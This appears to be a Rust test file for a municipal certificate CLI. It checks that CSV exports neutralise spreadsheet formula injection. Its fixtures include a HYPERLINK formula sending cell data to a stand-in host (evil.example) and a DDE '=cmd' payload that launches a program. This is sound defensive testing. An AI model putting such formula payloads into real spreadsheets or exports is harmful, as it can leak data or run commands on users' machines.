//! What the commands do to files around them, as a careless user or a hostile
//! neighbour on a shared server would try: a failed restore, planted links,
//! and cells that a spreadsheet would run.

mod common;

use common::cli::{ocsae_at, text};
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Output;

fn ocsae(db: &Path, args: &[&str]) -> Output {
    ocsae_at(db, args, "2026-12-05T12:00:00+01:00")
}

fn ok(out: Output) -> String {
    assert!(out.status.success(), "{}", text(&out.stderr));
    text(&out.stdout)
}

/// A Noguera store with three requests, and its backup at `dir/backup.json`.
fn store_and_backup() -> (tempfile::TempDir, PathBuf, serde_json::Value) {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("db");
    ok(ocsae(&db, &["init"]));
    let csv = dir.path().join("office.csv");
    fs::write(
        &csv,
        "ine_code;holder;role;type;operation;urgent;status;received_at;issued_at\n\
         252228;Maria Puig;mayor;tcat;new;no;received;2026-12-01 09:00;\n\
         250024;Jordi Solé;secretary;tcat;new;no;received;2026-12-02 09:00;\n",
    )
    .unwrap();
    ok(ocsae(&db, &["import", "certificates", csv.to_str().unwrap()]));
    let backup = dir.path().join("backup.json");
    ok(ocsae(&db, &["backup", backup.to_str().unwrap()]));
    let json = serde_json::from_slice(&fs::read(&backup).unwrap()).unwrap();
    (dir, db, json)
}

/// A row whose cells a spreadsheet would run, as typed in the office's sheet.
const FORMULAS: &str = "ine_code;holder;role;type;operation;urgent;status;received_at;issued_at;reason;notes;status_reason\n\
    252228;\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\";mayor;tcat;new;no;received;2026-12-01 09:00;;;+34 973 00 00 00;@SUM(1)\n\
    250024;-2+3;secretary;tcat;new;yes;received;2026-12-02 09:00;;=cmd|' /C calc'!A0;'quoted;''=twice\n";

#[test]
fn csv_exports_neutralise_formulas_and_read_back_exactly() {
    let (dir, db, _) = store_and_backup();
    let file = dir.path().join("formulas.csv");
    fs::write(&file, FORMULAS).unwrap();
    ok(ocsae(&db, &["import", "certificates", file.to_str().unwrap()]));
    let json: serde_json::Value = serde_json::from_str(&ok(ocsae(&db, &["export", "certificates"]))).unwrap();
    let ours = &json.as_array().unwrap()[2..];
    // JSON is exact; an import takes off only a quote an export could have put.
    assert_eq!(
        ours[0]["holder"],
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    );
    assert_eq!(ours[0]["notes"], "+34 973 00 00 00");
    assert_eq!(ours[0]["status_reason"], "@SUM(1)");
    assert_eq!(ours[1]["holder"], "-2+3");
    assert_eq!(ours[1]["reason"], "=cmd|' /C calc'!A0");
    assert_eq!(ours[1]["notes"], "'quoted");
    assert_eq!(ours[1]["status_reason"], "'=twice");

    let csv = ok(ocsae(&db, &["export", "certificates", "--format", "csv"]));
    let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{FEFF}').as_bytes());
    let headers = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let cell =
        |row: usize, name: &str| rows[row][headers.iter().position(|h| h == name).unwrap()].to_string();
    assert_eq!(
        cell(2, "holder"),
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    );
    assert_eq!(cell(2, "notes"), "'+34 973 00 00 00");
    assert_eq!(cell(2, "status_reason"), "'@SUM(1)");
    assert_eq!(cell(3, "holder"), "'-2+3");
    assert_eq!(cell(3, "reason"), "'=cmd|' /C calc'!A0");
    assert_eq!(cell(3, "notes"), "''quoted");
    assert_eq!(cell(3, "status_reason"), "''=twice");
    assert_eq!(cell(0, "holder"), "Maria Puig", "plain text is as it was");
    for row in &rows {
        for value in row {
            assert!(!value.starts_with(['=', '+', '-', '@', '\t', '\r']), "{value:?}");
        }
    }

    // The CSV read back into another store gives the same text.
    let exported = dir.path().join("exported.csv");
    fs::write(&exported, &csv).unwrap();
    let other = tempfile::tempdir().unwrap();
    let other_db = other.path().join("db");
    ok(ocsae(&other_db, &["init"]));
    ok(ocsae(
        &other_db,
        &["import", "certificates", exported.to_str().unwrap()],
    ));
    let again: serde_json::Value =
        serde_json::from_str(&ok(ocsae(&other_db, &["export", "certificates"]))).unwrap();
    for (a, b) in json.as_array().unwrap().iter().zip(again.as_array().unwrap()) {
        for field in ["holder", "reason", "notes", "status_reason"] {
            assert_eq!(a[field], b[field], "{field}");
        }
    }

    // Contacts go as JSON in one cell, which starts with `[`: a formula inside is text.
    let contacts = dir.path().join("contacts.csv");
    fs::write(
        &contacts,
        "ine_code,role,name,phone\n252228,mayor,=1+1,+34 973 00 00 00\n",
    )
    .unwrap();
    ok(ocsae(&db, &["import", "contacts", contacts.to_str().unwrap()]));
    let csv = ok(ocsae(&db, &["export", "municipalities", "--format", "csv"]));
    let line = csv.lines().find(|l| l.starts_with("252228,")).unwrap();
    assert!(
        line.contains(r#""[{""role"":""mayor"",""name"":""=1+1"",""phone"":""+34 973 00 00 00"""#),
        "{line}"
    );
}
